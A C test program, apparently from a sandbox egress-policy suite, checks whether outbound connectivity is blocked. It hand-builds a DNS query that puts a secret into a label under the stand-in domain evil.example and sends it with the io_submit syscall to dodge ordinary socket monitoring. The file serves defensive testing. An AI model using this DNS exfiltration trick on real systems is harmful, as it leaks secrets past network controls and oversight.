// class: network
// rule: outbound_connectivity
// policy: names.yaml
// success: a C program sends a question that carries data by io_submit
// proof: query
// needs: resolver
#include "attack.h"
#include <linux/aio_abi.h>

int main(void)
{
    unsigned char packet[200] = "\x12\x34\x01\0\0\x01\0\0\0\0\0\0";
    size_t size = 12, length = strlen(SECRET_);
    packet[size++] = (unsigned char)length;
    memcpy(packet + size, SECRET_, length);
    size += length;
    memcpy(packet + size, "\4evil\7example\0\0\1\0\1", 18);
    size += 18;
    struct sockaddr_in resolver = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, env("ATTACK_RESOLVER"), &resolver.sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (connect(fd, (struct sockaddr *)&resolver, sizeof resolver) != 0) return stopped("connect");
    aio_context_t context = 0;
    struct iocb one = {.aio_fildes = (unsigned)fd,
                       .aio_lio_opcode = IOCB_CMD_PWRITE,
                       .aio_buf = (uintptr_t)packet,
                       .aio_nbytes = size};
    struct iocb *list[1] = {&one};
    if (syscall(SYS_io_setup, 1, &context) != 0) return stopped("io_setup");
    if (syscall(SYS_io_submit, context, 1, list) != 1) return stopped("io_submit");
    return recv(fd, packet, sizeof packet, 0) > 12 ? reached() : stopped("recv");
}
